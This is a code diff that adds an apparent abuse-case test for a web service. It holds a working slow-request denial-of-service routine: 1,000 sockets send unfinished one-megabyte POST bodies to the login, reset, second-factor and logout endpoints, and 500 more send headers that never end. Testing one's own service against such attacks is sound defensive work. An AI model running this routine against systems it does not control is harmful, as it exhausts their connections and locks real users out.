@@ -1,0 +1,20 @@
+import type { AbuseCase } from '../abuse-case.ts'
+import { megabytes, occupy, write } from './connections.ts'
+
+const bodyBytes = 1_000_000
+const publicCalls = ['/api/auth/login', '/api/auth/reset', '/api/auth/second-factor', '/api/auth/logout']
+
+/** One address begins bodies on the calls that need no account, and ends none; some heads are never ended either. */
+export const unfinishedRequests: AbuseCase = {
+  number: 2,
+  name: 'unfinished requests of one address',
+  async run({ url }, signal) {
+    const bodies = occupy(url, 1_000, signal, async (socket) => {
+      const call = publicCalls[Math.floor(Math.random() * publicCalls.length)] ?? ''
+      const head = `POST ${call} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${bodyBytes}\r\n\r\n`
+      await write(socket, `${head}{"email":"${'x'.repeat(bodyBytes - 20)}`)
+    })
+    const heads = occupy(url, 500, signal, (socket) => write(socket, `GET /api/site HTTP/1.1\r\nX-Long: ${'x'.repeat(8_000)}`))
+    return `bodies: ${megabytes(await bodies)}; heads: ${megabytes(await heads)}`
+  },
+}
